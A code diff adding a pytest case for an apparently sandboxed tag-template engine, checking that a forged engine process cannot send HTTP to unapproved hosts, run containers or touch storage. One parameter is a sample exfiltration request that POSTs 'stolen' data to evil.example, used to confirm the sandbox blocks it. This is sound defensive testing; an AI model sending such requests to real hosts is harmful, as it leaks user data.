@@ -5,12 +5,23 @@ import socket
 
 import msgspec
 import pytest
-from template_stage import call, template
+from template_stage import NOW, call, template
 
 from twite.engines.process.engine_process import QuickJsProcess
 from twite.engines.process.frames import EngineRequest, EngineResponse, FrameReader, framed
 from twite.gateway.ports.engines import EngineLost
+from twite.gateway.ports.tags import ContainerConfig, TagRule
+from twite.gateway.ports.transport import Response
+from twite.gateway.tags.google.requests import GoogleClient
+from twite.gateway.tags.run.outbound import RunContext
+from twite.gateway.tags.run.payload import TagPayload
+from twite.gateway.tags.run.tag_run import TagRun
+from twite.gateway.tags.runtime.engine_pool import EnginePool, TemplateStorage
+from twite.gtm.container.parts import Container, ContainerTag
+from twite.gtm.template.permissions import Grant
 from twite.gtm.template.sandbox import RunLimits
+from twite.machine.system import SystemClock
+from twite.testing.fakes import ScriptedWeb
 
 TURN = '{"run":1,"outcome":"success"}'
 
@@ -44,7 +55,7 @@ class ForgedServer:
         for frame in frames.feed(data):
             request = msgspec.msgpack.decode(frame, type=EngineRequest)
             self.requests.append(request)
-            if request.act == 2 and self.answers:
+            if request.act in {2, 3} and self.answers:
                 its.sendall(self.answers.pop(0))
 
     def kill(self, pid):
@@ -121,3 +132,85 @@ async def test_it_gets_the_keys_alone_that_its_template_may_use():
     process.stop()
     server.stop()
     assert "secret-of-hmac" not in repr(server.requests)
+
+
+class NotForX:
+    async def take(self, _request, **_source):
+        return None
+
+
+class Seen:
+    def __init__(self):
+        self.lines = []
+
+    def see(self, notice):
+        self.lines.append(getattr(notice, "text", ""))
+
+
+class ForgedEngines:
+    def __init__(self, server):
+        self._server = server
+
+    def start(self):
+        pass
+
+    def process(self, limits):
+        return QuickJsProcess(self._server, limits=limits, keys={})
+
+    async def stop(self):
+        self._server.stop()
+
+
+REQUEST = '{"effect":"request","id":1,"url":"%s","method":"POST","body":"stolen"}'
+
+
+@pytest.mark.parametrize(
+    ("effect", "error", "asked"),
+    [
+        (REQUEST % "https://evil.example/in", "send_http does not allow", []),
+        ('{"effect":"run_container","id":1,"event":{}}', "run_container does not allow", []),
+        ('{"effect":"keep","key":"a","value":1}', "access_template_storage does not allow", []),
+        (REQUEST % "https://vendor.example/in", None, ["https://vendor.example/in"]),
+    ],
+    ids=["another host", "a container", "storage", "allowed"],
+)
+async def test_a_forged_process_gets_the_effects_alone_that_its_template_may_ask_for(
+    effect, error, asked
+):
+    turn = f'{{"run":1,"waiting":[1],"effects":[{effect}]}}'
+    server = ForgedServer(forged(turn=turn), forged())
+    clock, seen = SystemClock(), Seen()
+    web = ScriptedWeb([Response(status=200, headers={}, body=b"")])
+    pool = EnginePool(ForgedEngines(server), elapsed=clock.elapsed)
+    pool.start()
+    grant = Grant(
+        permission="send_http",
+        parameters={"allowedUrls": "specific", "urls": ["https://vendor.example/*"]},
+    )
+    container = Container(
+        tags=(ContainerTag(name="crm", template="main"),),
+        templates={"main": template("data.gtmOnSuccess();", grants=[grant])},
+    )
+    rule = TagRule(name="crm")
+    run = TagRun(
+        RunContext(
+            engine_pool=pool,
+            web=web,
+            google=GoogleClient(clock=clock),
+            to_x=NotForX(),
+            storage=TemplateStorage(),
+            clock=clock,
+            observer=seen,
+        ),
+        container_config=ContainerConfig(container=container, rules={"crm": rule}),
+        rule=rule,
+        payload=TagPayload(pixel="o8z6j", at=NOW, event={"event_name": "x"}),
+        seed=7,
+    )
+
+    ran = await run.run()
+
+    await pool.stop()
+    assert [request.url for request in web.asked] == asked
+    assert server.killed == ([] if error is None else [1_000_000_001])
+    assert ran.succeeded if error is None else error in ran.error
